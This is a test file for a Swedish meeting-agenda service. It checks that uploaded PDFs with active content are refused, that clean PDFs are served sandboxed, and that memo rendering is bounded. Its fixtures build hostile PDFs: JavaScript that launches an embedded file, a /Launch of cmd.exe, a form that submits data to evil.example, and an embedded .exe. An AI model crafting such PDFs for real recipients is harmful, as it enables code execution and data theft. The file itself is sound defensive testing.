/**
 * PDF safety through the API: uploaded PDFs with JavaScript, actions that
 * start programs or send form data, or embedded files are refused in Swedish
 * and nothing is saved; a good one is served inline with its Swedish name and
 * a sandboxing policy; a memo with a 20 000-character word renders quickly for
 * the public, and a memo too long to render quickly is refused when saved.
 */
import { mkdtempSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { PDFDocument, PDFName, PDFString } from 'pdf-lib';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { FastifyInstance } from 'fastify';
import { dropTestSchemas, testDatabases } from '../helpers/db.ts';
import { signIn, type Client } from '../helpers/auth.ts';
import { useAugustMeeting } from '../helpers/august.ts';
import { readPdf } from '../helpers/pdf.ts';
import type { Db } from '../../src/db/index.ts';
import * as documents from '../../src/documents/service.ts';
import type { MeetingDetail } from '../../src/http/contract.ts';
import type { AttachmentView } from '../../src/documents/types.ts';

process.env.FILES_DIR = mkdtempSync(path.join(tmpdir(), 'styrbord-pdfsakerhet-'));

/** A one-page PDF made with pdf-lib, changed by `edit` (the active content) before saving. */
async function pdfWith(edit: (doc: PDFDocument) => void | Promise<void> = () => {}, useObjectStreams = true): Promise<Buffer> {
  const doc = await PDFDocument.create();
  doc.addPage().drawText('Projektbeskrivning');
  await edit(doc);
  return Buffer.from(await doc.save({ useObjectStreams }));
}
const jsAction = (doc: PDFDocument) => doc.context.obj({ Type: 'Action', S: 'JavaScript', JS: PDFString.of('this.exportDataObject({cName: "a", nLaunch: 2})') });
const withAnnot = (doc: PDFDocument, annot: Record<string, unknown>) =>
  doc.getPage(0).node.set(PDFName.of('Annots'), doc.context.obj([doc.context.register(doc.context.obj({ Type: 'Annot', Rect: [0, 0, 50, 50], ...annot } as never))]));

const MALICIOUS: Array<[string, () => Promise<Buffer>, RegExp]> = [
  ['JavaScript run when the file opens (/OpenAction)', () => pdfWith((d) => d.catalog.set(PDFName.of('OpenAction'), jsAction(d))), /JavaScript/],
  ['JavaScript in the names tree', () => pdfWith((d) => d.catalog.set(PDFName.of('Names'), d.context.obj({ JavaScript: d.context.obj({ Names: [PDFString.of('a'), d.context.register(jsAction(d))] }) }))), /JavaScript/],
  ['a page’s additional actions (/AA), uncompressed', () => pdfWith((d) => d.getPage(0).node.set(PDFName.of('AA'), d.context.obj({ O: jsAction(d) })), false), /JavaScript/],
  ['a link that starts a program (/Launch)', () => pdfWith((d) => withAnnot(d, { Subtype: 'Link', A: { S: 'Launch', F: PDFString.of('cmd.exe') } })), /startar program/],
  ['a form that sends its data away (/SubmitForm)', () => pdfWith((d) => withAnnot(d, { Subtype: 'Widget', A: { S: 'SubmitForm', F: PDFString.of('https://evil.example/') } })), /skickar formulärdata/],
  ['an embedded file', () => pdfWith((d) => d.attach(Buffer.from('MZ'), 'faktura.exe', { mimeType: 'application/octet-stream' })), /inbäddade filer/],
  ['a file attachment annotation', () => pdfWith((d) => withAnnot(d, { Subtype: 'FileAttachment', FS: PDFString.of('faktura.exe') })), /inbäddade filer/],
];

afterAll(dropTestSchemas);

describe.each(testDatabases)('PDF safety on $name', (tdb) => {
  let db: Db;
  let app: FastifyInstance;
  let aug: MeetingDetail;
  let clerk: Client;
  const item = (n: number) => aug.items.find((i) => i.number === n)!;

  function upload(itemId: number, name: string, bytes: Buffer) {
    const boundary = `----styrbord${Math.random().toString(16).slice(2)}`;
    const payload = Buffer.concat([
      Buffer.from(`--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="${name}"\r\nContent-Type: application/pdf\r\n\r\n`),
      bytes,
      Buffer.from(`\r\n--${boundary}--\r\n`),
    ]);
    return app.inject({ method: 'POST', url: `/api/agenda-items/${itemId}/attachments`, payload, headers: { 'content-type': `multipart/form-data; boundary=${boundary}`, ...clerk.headers } });
  }

  useAugustMeeting(tdb, (d, a, m) => {
    db = d;
    app = a;
    aug = m;
  });
  beforeAll(async () => {
    clerk = await signIn(app, db, ['secretary']);
  });

  it.each(MALICIOUS)('refuses a PDF with %s, in Swedish, and saves nothing', async (_what, make, message) => {
    const res = await upload(item(3).id, 'bilaga.pdf', await make());
    expect(res.statusCode, res.body).toBe(422);
    expect(res.json().error).toMatchObject({ code: 'active-pdf', message: expect.stringMatching(/^Filen bilaga\.pdf innehåller .*kan inte läggas in i kallelsen/) });
    expect(res.json().error.message).toMatch(message);
    expect(await documents.listAttachments(db, item(3).id)).toEqual([]);
    expect(Number((await db.kysely.selectFrom('stored_file').select((e) => e.fn.countAll().as('n')).executeTakeFirstOrThrow()).n)).toBe(0);
  });

  it('accepts an ordinary PDF and serves it inline with its Swedish name, sandboxed and not sniffed', async () => {
    const bytes = await pdfWith((d) => withAnnot(d, { Subtype: 'Link', A: { S: 'URI', URI: PDFString.of('https://www.regionorebrolan.se/') } }));
    const res = await upload(item(4).id, 'Projektbeskrivning Smart tillväxt (åäö).pdf', bytes);
    expect(res.statusCode, res.body).toBe(201);
    const a = res.json() as AttachmentView;
    for (const who of [{}, clerk.headers]) {
      const file = await app.inject({ url: a.url, headers: who });
      expect(file.statusCode).toBe(200);
      expect(file.headers['content-type']).toBe('application/pdf');
      expect(file.headers['content-disposition']).toBe(
        `inline; filename="Projektbeskrivning Smart tillvaxt (aao).pdf"; filename*=UTF-8''Projektbeskrivning%20Smart%20tillv%C3%A4xt%20%28%C3%A5%C3%A4%C3%B6%29.pdf`,
      );
      expect(file.headers['content-security-policy']).toBe("sandbox; default-src 'none'");
      expect(file.headers['x-content-type-options']).toBe('nosniff');
      expect(file.rawPayload.equals(bytes)).toBe(true);
    }
  });

  const memo = {
    unit: 'Projektstöd',
    officer: 'Lena Kihl',
    summary: 'Almi Företagspartner Mälardalen AB ansöker om medfinansiering.',
    consequences: 'Inga särskilda.',
    economy: 'Finansiering sker från det statliga anslaget.',
    decisionBasis: ['Projektbeskrivning 2020-06-15.'],
    signatory: { name: 'Petter Arneback', title: 'Förvaltningschef' },
    sendTo: ['Almi Företagspartner Mälardalen AB'],
  };

  it('renders, for the public, a memo with a 20 000-character word in well under a second', async () => {
    const url = `/api/agenda-items/${item(4).id}/memo`;
    const word = 'Projektkostnadsfinansieringsunderlag'.repeat(556).slice(0, 20_000);
    const saved = await app.inject({ method: 'PUT', url, payload: { ...memo, description: `Beskrivning: ${word} slut.` }, headers: clerk.headers });
    expect(saved.statusCode, saved.body).toBe(200);
    const started = performance.now();
    const pdf = await app.inject(`${url}.pdf`);
    const ms = performance.now() - started;
    expect(pdf.statusCode).toBe(200);
    expect(ms).toBeLessThan(5000);
    expect(pdf.headers['content-security-policy']).toBe("sandbox; default-src 'none'");
    expect(pdf.headers['content-disposition']).toMatch(/^inline; filename="foredragningspm-2020-08-24-punkt-4\.pdf"/);
    const text = (await readPdf(pdf.rawPayload)).pages.join('').replace(/\s+/g, '');
    expect(text).toContain(word.slice(0, 500));
    expect(text).toContain(word.slice(-500));
  });

  it('refuses, in Swedish, a memo too long to render quickly, before anything is saved or drawn', async () => {
    const url = `/api/agenda-items/${item(5).id}/memo`;
    const long = { ...memo, summary: 's'.repeat(20_000), description: 'd'.repeat(50_000), assessment: 'b'.repeat(40_000) };
    const res = await app.inject({ method: 'PUT', url, payload: long, headers: clerk.headers });
    expect(res.statusCode).toBe(400);
    expect(res.json().error).toMatchObject({ code: 'memo-too-long', message: expect.stringMatching(/^Föredragnings-PM:et är för långt: texterna är tillsammans .* tecken, men högst 100\s000 får plats/) });
    expect((await app.inject(url)).statusCode).toBe(404);
    // just under the limit is saved and renders
    const fits = { ...memo, summary: 's '.repeat(10_000), description: 'd'.repeat(50_000), assessment: 'b '.repeat(14_000) };
    expect((await app.inject({ method: 'PUT', url, payload: fits, headers: clerk.headers })).statusCode).toBe(200);
    const started = performance.now();
    expect((await app.inject(`${url}.pdf`)).statusCode).toBe(200);
    expect(performance.now() - started).toBeLessThan(5000);
  });
});
